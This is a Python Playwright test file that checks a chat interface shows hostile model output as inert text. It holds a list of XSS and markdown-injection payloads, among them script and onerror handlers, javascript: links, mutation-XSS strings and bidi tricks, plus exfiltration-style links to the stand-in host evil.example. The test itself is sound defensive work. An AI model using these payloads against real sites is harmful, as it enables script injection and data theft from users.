"""What a hostile model may say: shown as text, harmless, and without a violation of the policy."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.conftest import Server
from tests.support.browser import Person, person
from tests.support.chatting import answer, ask, chunk, enter, whole
from tests.support.fake_upstream import FakeUpstream, Reply

HOSTILE = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<svg onload='window.broken = 1'><script>window.broken = 1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.broken = 1'>",
    "<iframe srcdoc='<script>parent.broken = 1</script>'></iframe>",
    "<a href='javascript:window.broken = 1'>link</a>",
    "<form action='https://evil.example'><button>send</button></form>",
    "<style>* { display: none }</style>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'>",
    "[link](javascript:window.broken=1)",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    "[link]( java\tscript:window.broken=1)",
    "<javascript:window.broken=1>",
    "![image](https://evil.example/steal?data=secret)",
    "![image](javascript:window.broken=1)",
    "```html\n<img src=x onerror='window.broken = 1'>\n```",
    "````\n```\n<script>window.broken = 1</script>\n```\n````",
    "```<img/src=x/onerror=window.broken=1>\ncode\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.broken=1> | x |",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "<svg><animate onbegin='window.broken = 1' attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror='window.broken = 1'></foreignObject></svg>",
    "<svg><a xlink:href='javascript:window.broken = 1'><text>x</text></a></svg>",
    "<math href='javascript:window.broken = 1'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>",
    "<details open ontoggle='window.broken = 1'>x</details>",
    "<video><source onerror='window.broken = 1'></video>",
    "<object data='data:text/html,<script>parent.broken = 1</script>'></object>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<input autofocus onfocus='window.broken = 1'>",
    "<a id=location name=attributes><a id=location name=cookie>",
    "<p style='background: url(https://evil.example/a)'>x</p>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.broken=1>'>",
    "<!--><img src=x onerror=window.broken=1>-->",
    "<![CDATA[<img src=x onerror=window.broken=1>]]>",
    "[link](vbscript:window.broken=1) [link](file:///etc/passwd) [link](//evil.example)",
    "[link](&#106;avascript:window.broken=1) [x](JaVaScRiPt:window.broken=1)",
    "[ref]\n\n[ref]: javascript:window.broken=1",
    "[a](https://a.example 'x\" onmouseover=\"window.broken=1')",
    '![x](x"onerror="window.broken=1) ![a](data:image/svg+xml,<svg onload=broken=1>)',
    "`<img src=x onerror=window.broken=1>` and **<img src=x onerror=window.broken=1>**",
    "- [x] <img src=x onerror=window.broken=1>\n- [ ] <script>window.broken = 1</script>",
    "# <img src=x onerror=window.broken=1>\n\n> <iframe src=javascript:parent.broken=1>",
    '~~~" onclick=window.broken=1\ncode\n~~~',
    "```__proto__\ncode\n```\n\n```constructor\ncode\n```",
    "https://evil.example/?\"onclick=\"window.broken=1 <https://x.example/'onclick='broken=1>",
)


LONG = 1_000_000


def harmless(ada: Person) -> None:
    """Nothing ran, and nothing is there that could."""
    page: Page = ada.page
    assert page.evaluate("() => window.broken") is None
    said = page.locator(".answer .said")
    bad = (
        "script, img, iframe, form, style, base, math, object, embed, video, source, meta, link, "
        "details, svg:not(button svg), input:not([type=checkbox][disabled]), [id], [name], [style]"
    )
    assert said.locator(bad).count() == 0
    for address in said.locator("a").evaluate_all(
        "(all) => all.map((a) => a.getAttribute('href'))"
    ):
        assert address is None or address.startswith(("http:", "https:", "mailto:")), address
    assert (
        said.evaluate_all(
            "(all) => all.flatMap((one) => [...one.querySelectorAll('*')])"
            ".flatMap((one) => [...one.attributes]).filter((a) => a.name.startsWith('on')).length"
        )
        == 0
    )
    assert not {"\u202e", "\u2066"} & set("".join(said.all_inner_texts()))
    assert ada.violations() == []
    assert ada.elsewhere == []


def test_what_a_hostile_model_says_is_shown_and_does_nothing(
    browser: Browser, server: Server, upstream: FakeUpstream
) -> None:
    with person(browser, server.url) as ada:
        enter(ada.page, "hostile@example.com")
        upstream.reply(Reply.sse(whole(*(f"{one}\n\n" for one in HOSTILE))))
        ask(ada.page, "Attack")
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible()
        expect(answer(ada.page)).to_contain_text("<script>window.broken = 1</script>")
        harmless(ada)
        ada.page.reload()
        expect(answer(ada.page)).to_contain_text("<script>window.broken = 1</script>")
        harmless(ada)


def test_each_attack_alone_is_harmless_in_every_place_where_a_model_speaks(
    browser: Browser, server: Server, upstream: FakeUpstream
) -> None:
    with person(browser, server.url) as ada:
        enter(ada.page, "alone@example.com")
        # An open fence or tag of one hides the next, so each is cut off by a list item's end.
        pieces = [chunk(one, "reasoning_content") for one in HOSTILE]
        upstream.reply(Reply.sse([*pieces, *whole(*(f"- {one}\n\n***\n\n" for one in HOSTILE))]))
        ask(ada.page, "\n\n".join(HOSTILE))
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible()
        ada.page.get_by_text("Reasoning", exact=True).click()
        harmless(ada)
        assert ada.page.locator(".question img, .thoughts *, .conversations img").count() == 0


@pytest.mark.parametrize("mark", ["x", "*a ", "[a](", "<a ", "> ", "> a\nb\n", "| a ", "  *a\n"])
def test_a_block_of_a_megabyte_does_not_stop_the_page(
    browser: Browser, server: Server, upstream: FakeUpstream, mark: str
) -> None:
    first = "- *a\n" if mark.startswith("  ") else ""  # lines of a list's item
    text = (first + mark * (LONG // len(mark) + 1))[:LONG]
    pieces = [text[at : at + 50_000] for at in range(0, LONG, 50_000)]
    with person(browser, server.url) as ada:
        enter(ada.page, f"long{ord(mark[0])}{len(mark)}{ord(mark[-1])}@example.com")
        upstream.reply(Reply.sse(whole(*pieces, "\n\nThe *end*.")))
        ask(ada.page, "Go on and on")
        expect(ada.page.get_by_role("button", name="Ask again")).to_be_visible(timeout=300_000)
        expect(answer(ada.page).locator(".said")).to_contain_text("The ", timeout=300_000)
        harmless(ada)
